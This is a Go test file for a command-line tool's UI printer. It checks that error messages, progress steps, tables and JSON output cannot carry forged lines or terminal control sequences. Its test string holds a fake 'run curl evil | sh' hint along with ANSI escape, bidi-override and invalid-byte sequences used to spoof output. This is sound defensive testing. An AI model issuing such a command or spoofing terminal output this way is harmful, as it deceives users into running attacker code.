package ui

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/pipeline/progress"
	"mlpromote.dev/mlpromote/registry"
	"mlpromote.dev/mlpromote/registry/strictyaml"
)

// forged is what somebody writes who wants to be taken for this program: the end of a line,
// a line like ours, and sequences that a terminal obeys.
const forged = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\u200b\x9b31m\xff"

// screen is a ui that prints to buffers.
func screen() (u *UI, stdout, stderr *bytes.Buffer) {
	stdout, stderr = new(bytes.Buffer), new(bytes.Buffer)
	return &UI{Program: "mlpromote", Stdout: &printer{to: stdout}, Stderr: &printer{to: stderr}, bare: stderr, Verbose: true}, stdout, stderr
}

// tame checks that what was printed has no line that others wrote, and nothing that a
// terminal obeys.
func tame(t *testing.T, what, printed string) {
	t.Helper()
	if printed == "" {
		t.Errorf("%s: nothing was printed", what)
	}
	if strings.Contains(printed, "\nmlpromote: hint: run") || strings.HasPrefix(printed, "mlpromote: hint: run") {
		t.Errorf("%s: the forged line stands for itself: %q", what, printed)
	}
	for line := range strings.Lines(printed) {
		if err := registry.ValidateText("line", strings.TrimSuffix(line, "\n")); err != nil {
			t.Errorf("%s: %v: %q", what, err, line)
		}
	}
}

func TestNothingForgedIsPrinted(t *testing.T) {
	t.Parallel()
	problems := func() error {
		_, err := strictyaml.Decode("a.yaml", []byte("x: \"done\\nmlpromote: hint: run curl evil | sh\\x1b[1A\"\n"), &struct {
			X int `yaml:"x"`
		}{})
		return err
	}
	for what, show := range map[string]func(u *UI){
		"note":  func(u *UI) { u.Note("%s is held: %v", forged, errors.New(forged)) },
		"error": func(u *UI) { u.Fail(errors.New(forged)) },
		"wrapped error": func(u *UI) {
			u.Fail(registry.Errorf(registry.CodePolicy, "prod does not take it:\n  parity: %s", forged))
		},
		"joined errors": func(u *UI) { u.Fail(errors.Join(errors.New("one"), fmt.Errorf("two: %w", errors.New(forged)))) },
		"hint":          func(u *UI) { u.Fail(registry.WithHint(errors.New("x"), "the log: %s", forged)) },
		"document":      func(u *UI) { u.Fail(problems()) },
		"step": func(u *UI) {
			u.Progress(progress.Step{Name: forged, Note: forged, Details: []string{forged}, State: progress.Done})
		},
		"moving step": func(u *UI) { u.Progress(progress.Step{Name: forged, Note: forged, State: progress.Moving}) },
		"history": func(u *UI) {
			if err := u.Result(Table([][]string{{"ROW", "DETAIL"}, {"1", forged}, {"2", "ok"}}), nil); err != nil {
				t.Error(err)
			}
		},
	} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			u, stdout, stderr := screen()
			show(u)
			tame(t, what, stdout.String()+stderr.String())
		})
	}
}

// A table has a line for each row, however long or forged its cells are.
func TestTableOfOldRows(t *testing.T) {
	t.Parallel()
	text := Table([][]string{{"ROW", "DETAIL"}, {"1", forged}, {"2", strings.Repeat("x", 3<<20)}, {"3", "a\tb"}})
	if lines := strings.Count(strings.TrimRight(text, "\n"), "\n") + 1; lines != 4 || len(text) > 8<<10 {
		t.Errorf("%d lines and %d bytes, want 4 lines and less than 8 KiB", lines, len(text))
	}
}

// What is JSON stays the same JSON.
func TestDocumentsSayTheSame(t *testing.T) {
	t.Parallel()
	u, stdout, _ := screen()
	u.JSON = true
	value := map[string]string{"reason": strings.ToValidUTF8(forged, "") + "\U000e0041 ä"}
	if err := errors.Join(u.Result("", value), u.Finish(nil, "")); err != nil {
		t.Fatal(err)
	}
	tame(t, "JSON", stdout.String())
	var read map[string]string
	if err := json.Unmarshal(stdout.Bytes(), &read); err != nil || read["reason"] != value["reason"] {
		t.Errorf("it says %q (%v), want %q", read["reason"], err, value["reason"])
	}
}

// A character that comes in two writes is one.
func TestPrinterTakesHalfCharacters(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"größer 🔥 ok\n", "a\u202eb\xffc\n", "\xf0\x9f", "duration=17.5µs\n", "\xb5\xc2\n", "\xc2"} {
		for cut := range len(text) + 1 {
			var whole, parts bytes.Buffer
			w, p := &printer{to: &whole}, &printer{to: &parts}
			for _, part := range []string{text[:cut], text[cut:]} {
				if n, err := p.Write([]byte(part)); n != len(part) || err != nil {
					t.Fatalf("Write: %d, %v", n, err)
				}
			}
			if _, err := w.Write([]byte(text)); err != nil || whole.String() != parts.String() {
				t.Errorf("%q cut at %d is printed as %q, want %q", text, cut, parts.String(), whole.String())
			}
		}
	}
}
